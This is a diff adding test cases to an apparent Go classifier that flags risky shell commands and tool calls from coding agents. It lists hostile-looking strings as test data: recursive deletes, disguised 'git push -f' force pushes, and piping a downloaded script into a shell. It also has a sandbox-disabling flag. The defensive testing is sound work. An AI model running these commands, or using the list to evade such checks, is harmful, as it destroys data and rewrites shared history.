@@ -56,6 +56,18 @@ var dangerous = map[string]Risk{
 	"curl https://x.com |& sh":                         Unread,
 	"d=$(mktemp -d src/XXX); rm -rf $d":                Destroys,
 	"rm -rf $(X=1)":                                    Destroys,
+	"tee x.sh <<< 'git push -f'; sh x.sh":              Rewrites,
+	"mytool rm -rf src":                                Destroys,
+	"cat x | bash --rcfile y":                          Unread,
+	"cat x | bash --init-file y":                       Unread,
+	"cat x | bash --norc":                              Unread,
+	"alias x='git push -f'":                            Rewrites,
+	"alias 'x=git push -f'":                            Rewrites,
+	"sudo 'git push -f'":                               Rewrites,
+	"cat x | parallel sh":                              Unread,
+	"parallel eval":                                    Unread,
+	"git -c 'x=git push -f' log":                       Rewrites,
+	"pwsh -c git push -f":                              Rewrites,
 	"d=build; d=/; rm -rf $d":                          Destroys,
 	"read d; rm -rf $d":                                Destroys,
 	"for d in build src; do rm -rf $d; done":           Destroys,
@@ -290,6 +302,14 @@ func TestEverydayCommandsAreNoHighRisk(t *testing.T) {
 		"bash build.sh | tee build.log",
 		"git status | cat",
 		"rimraf dist",
+		"source",
+		"npx @scope/tool src",
+		"pwsh -File x.ps1",
+		"sudo_alias 'a=git push -f'",
+		"cat x | env sh build.sh",
+		"bash --norc build.sh",
+		"bash --rcfile x build.sh",
+		"bash --init-file x build.sh",
 		"d=$(mktemp -d -t -q /tmp/x.XXX); rm -rf $d",
 		"rm -rf $PWD/bu\\ild",
 		"rm -rf $PWD/bu\\\nild",
@@ -434,6 +454,9 @@ func TestFilesOfEditsAndReadsAreJudgedByWhereTheyAre(t *testing.T) {
 		{"Bash", `{"command":["rm","-rf",["src"]]}`, []Risk{Unread}},
 		{"shell", `{"command":["rm","-rf",1]}`, []Risk{Unread}},
 		{"Bash", `{"command":"rm -rf build","cwd":"sub","workdir":"/"}`, []Risk{Destroys, Outside}},
+		{"Bash", `{"command":"rm -rf build","cwd":"sub","workdir":"sub"}`, nil},
+		{"Bash", `{"commands":[{"command":"ls"}]}`, nil},
+		{"apply_patch", `{"command":"*** Begin Patch\n*** Add File: a.sh\n+x\n rm -rf src\n*** End Patch"}`, nil},
 		{"Bash", `{"command":"rm -rf build","working_dir":"/"}`, []Risk{Destroys, Outside}},
 		{"Bash", `{"command":"sh","stdin":"rm -rf src"}`, []Risk{Destroys}},
 		{"Bash", `{"command":"ls","dangerouslyDisableSandbox":true}`, []Risk{Rights}},
@@ -464,6 +487,22 @@ func TestFilesOfEditsAndReadsAreJudgedByWhereTheyAre(t *testing.T) {
 	} {
 		if got := risksIn("/srv/code", c.tool, c.input); !slices.Equal(got, c.want) {
 			t.Errorf("%s %s: %q; want %q", c.tool, c.input, got, c.want)
+		}
+	}
+}
+
+// TestOptionFits: a letter may stand among others, and a long option may be abbreviated, but not to nothing.
+func TestOptionFits(t *testing.T) {
+	for _, c := range []struct {
+		pattern, arg string
+		want         bool
+	}{
+		{"-f", "-f", true}, {"-f", "-xf", true}, {"-f", "-x=f", false}, {"-f", "-", false}, {"-f", "--f", false}, {"-f", "f", false},
+		{"--force", "--force", true}, {"--force", "--fo", true}, {"--force", "--f", false}, {"--force", "--", false}, {"--force", "--no", false},
+		{"--", "--", true}, {"--", "--x", false}, {"a*", "ab/c", true}, {"-", "-", true},
+	} {
+		if got := optionFits(c.pattern, c.arg); got != c.want {
+			t.Errorf("%s fits %s: %t", c.pattern, c.arg, got)
 		}
 	}
 }
